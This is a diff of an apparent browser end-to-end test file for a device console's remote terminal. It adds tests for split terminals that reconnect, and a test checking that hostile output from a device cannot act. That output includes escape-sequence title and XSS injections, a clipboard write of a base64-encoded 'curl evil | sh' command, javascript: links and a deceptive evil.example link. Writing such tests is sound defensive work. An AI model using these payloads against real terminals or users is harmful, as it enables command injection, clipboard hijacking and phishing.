@@ -1,11 +1,12 @@
 /** Remote operation in the console: a terminal that is typed in, and the web page of a device in a window of its own. */
 import { readFileSync } from 'node:fs'
 import { afterAll, describe, expect, it } from 'vitest'
+import { treeOf } from '#device-sim/remote/tree'
 import { startDeviceSim } from '#device-sim/start'
 import { TEST_PASSWORD, type TestDevice } from '#test/tenants'
 import { until } from '../walks/until.ts'
 import { eachConsole, type Opening } from './each-console.ts'
-import { noBrowser, picture } from './open-browser.ts'
+import { noBrowser, picture, SIZES } from './open-browser.ts'
 
 describe.skipIf(noBrowser)('remote operation', () => {
   let opening: Opening
@@ -92,6 +93,145 @@ describe.skipIf(noBrowser)('remote operation', () => {
     await page.getByText('The session has ended.').waitFor()
   }, 120_000)
 
+  it('several terminals of a device, two beside each other, come back after an interruption, and end one by one', async () => {
+    const { page, booted } = opening
+    const { sql } = booted.context
+    await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
+    await page.getByRole('button', { name: 'Connect', exact: true }).click()
+    const pane = (number: number) => page.getByRole('region', { name: `Terminal ${number}`, exact: true })
+    const rows = (number: number) => pane(number).locator('.xterm-rows')
+    const logIn = (number: number) =>
+      pane(number).getByRole('button', { name: 'Log in' }).click({ timeout: 30_000 })
+    const type = async (number: number, text: string) => {
+      await rows(number).getByText(':~#').last().waitFor()
+      await page.keyboard.type(`echo ${text}\n`)
+      await until(text, async () => (await rows(number).innerText()).split(text).length > 2)
+    }
+    await logIn(1)
+    await type(1, 'one-here')
+    await page.keyboard.press('Alt+Shift+N')
+    await pane(1).waitFor({ state: 'hidden' })
+    await logIn(2)
+    await type(2, 'two-here')
+    await page.keyboard.press('Alt+Shift+S')
+    await pane(1).waitFor()
+    // The keyboard went to the other side.
+    await type(1, 'again-one')
+    expect(await rows(2).innerText()).not.toContain('again-one')
+    await picture(page, 'remote', 'desk-split')
+    sim.device(device.sn)?.down()
+    await until(
+      'both are away',
+      async () => (await page.getByText('The connection was interrupted').count()) === 2,
+    )
+    sim.device(device.sn)?.boot()
+    // The password is asked for once.
+    await pane(2).getByRole('button', { name: 'Log in' }).waitFor({ timeout: 30_000 })
+    await logIn(1)
+    for (const [number, text] of [
+      [1, 'one-here'],
+      [2, 'two-here'],
+    ] as const)
+      await until('a new shell below the old text', async () => {
+        const shown = await rows(number).innerText()
+        return shown.includes(text) && shown.split('BusyBox built-in shell').length === 3
+      })
+    await page.setViewportSize(SIZES.narrow)
+    await pane(2).waitFor({ state: 'hidden' })
+    await picture(page, 'remote', 'desk-phone')
+    await page.getByRole('button', { name: 'Terminal 2', exact: true }).click()
+    await pane(1).waitFor({ state: 'hidden' })
+    await page.setViewportSize(SIZES.wide)
+    const recorded = async () => {
+      const [row] = await sql`select count(*)::int as n from terminal_recordings where ended_at is null`
+      return row?.['n']
+    }
+    await until('both are recorded', async () => (await recorded()) === 2)
+    await page.getByRole('button', { name: 'Close terminal 2' }).click()
+    await until('its shell has ended on the device', async () => (await recorded()) === 1)
+    await pane(1).click()
+    await type(1, 'still-here')
+    await page.getByRole('button', { name: 'Close', exact: true }).click()
+    await page.getByText('The session has ended.').waitFor()
+    expect(await recorded()).toBe(0)
+  }, 120_000)
+
+  it('what a hostile device writes changes no title, opens no link, writes no clipboard and types nothing', async () => {
+    const { page } = opening
+    const part = sim.device(device.sn)
+    if (!part) throw new Error('no device')
+    const osc = (text: string) => `\u001b]${text}\u0007`
+    const link = (url: string, text: string) => `${osc(`8;;${url}`)}${text}${osc('8;;')}\r\n`
+    const hostile = [
+      osc('0;Sign in again\u202e<img src=x onerror=touched()>'),
+      osc(`2;${'reboot INJECTED '.repeat(40)}`),
+      osc(`52;c;${Buffer.from('curl evil | sh\n').toString('base64')}`),
+      osc('52;c;?'),
+      osc('777;notify;you;lost'),
+      // Asks for the title, the icon's title, and for what a request holds: an answer would be typed.
+      '\u001b[21t\u001b[20t\u001bP$qINJECTED\u001b\\',
+      link('javascript:touched()', 'first-link'),
+      link('https://evil.example/?x=1', 'https://bank.example'),
+      '<script>touched()</script><img src=x onerror=touched()>',
+    ]
+    treeOf(part).write('/root/hostile', 0, Buffer.from(hostile.join('')))
+    await page.addInitScript(() => {
+      const seen: string[] = []
+      Object.assign(window, { seen, touched: () => seen.push('script') })
+      window.open = (url) => {
+        seen.push(`open ${url}`)
+        return null
+      }
+      const clipboard = {
+        writeText: () => seen.push('write'),
+        write: () => seen.push('write'),
+        readText: () => seen.push('read'),
+      }
+      Object.defineProperty(navigator, 'clipboard', { value: clipboard })
+      document.execCommand = (name) => seen.push(name) > 0
+    })
+    const touched = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen)
+    await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
+    await page.getByRole('button', { name: 'Connect', exact: true }).click()
+    await page.getByRole('button', { name: 'Log in' }).click({ timeout: 30_000 })
+    const rows = page.locator('.xterm-rows')
+    await rows.getByText(':~#').first().waitFor()
+    const title = await page.title()
+    await page.keyboard.type('cat /root/hostile\n')
+    await rows.getByText('first-link').waitFor()
+    // What is answered to such questions is fixed, and at most a few characters of the line.
+    await page.keyboard.press('Control+C')
+    await page.keyboard.type('echo the-end\n')
+    await until(
+      'what was written is shown',
+      async () => (await rows.innerText()).split('the-end').length === 3,
+    )
+    expect(await page.title()).toBe(title)
+    expect(await rows.innerText()).not.toContain('INJECTED')
+    // Only its own tab calls it so, cut and as text.
+    const named = await page.getByRole('button', { name: 'Terminal 1' }).getByText('reboot').innerText()
+    expect(named.length).toBeLessThanOrEqual(60)
+    const press = async (text: string) => {
+      // A row is drawn anew while the pointer enters or leaves a link.
+      const box = await until(`${text} is shown`, () =>
+        rows.getByText(text).first().boundingBox({ timeout: 1_000 }),
+      )
+      await page.mouse.move(box.x + 20, box.y + box.height / 2)
+      await page.mouse.move(box.x + 24, box.y + box.height / 2)
+      await page.mouse.click(box.x + 24, box.y + box.height / 2)
+    }
+    await press('first-link')
+    await press('https://bank.example')
+    const dialog = page.getByRole('dialog')
+    await dialog.getByText('https://evil.example/?x=1').waitFor()
+    await picture(page, 'remote', 'hostile')
+    expect(await touched()).toEqual([])
+    await dialog.getByRole('button', { name: 'Cancel' }).click()
+    expect(await touched()).toEqual([])
+    await page.getByRole('button', { name: 'Close', exact: true }).click()
+    await page.getByText('The session has ended.').waitFor()
+  }, 60_000)
+
   it('the web page of a device opens under its own origin, logs in, and knows nothing of the console', async () => {
     const { page } = opening
     await page.goto(`/web/${device.id}/${device.sn}`)
@@ -156,12 +296,12 @@ describe.skipIf(noBrowser)('remote operation', () => {
     await sql`update groups set remote_approval = 'required' where id = ${device.groupId}`
     try {
       await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
-      await page.getByRole('button', { name: 'Ask for access' }).click()
+      await page.getByRole('button', { name: 'Request access' }).click()
       const drawer = page.getByRole('dialog')
       await drawer.getByLabel('Reason').fill('pump stands still')
       await picture(page, 'remote', 'access-ask')
-      await drawer.getByRole('button', { name: 'Ask for access' }).click()
-      await page.getByText('Waiting for an approval').waitFor()
+      await drawer.getByRole('button', { name: 'Request access' }).click()
+      await page.getByText('Waiting for approval').waitFor()
       const connect = page.getByRole('button', { name: 'Connect', exact: true })
       expect(await connect.getAttribute('aria-disabled')).toBe('true')
       const as = await booted.login(tenants.superAdmin.username, TEST_PASSWORD)
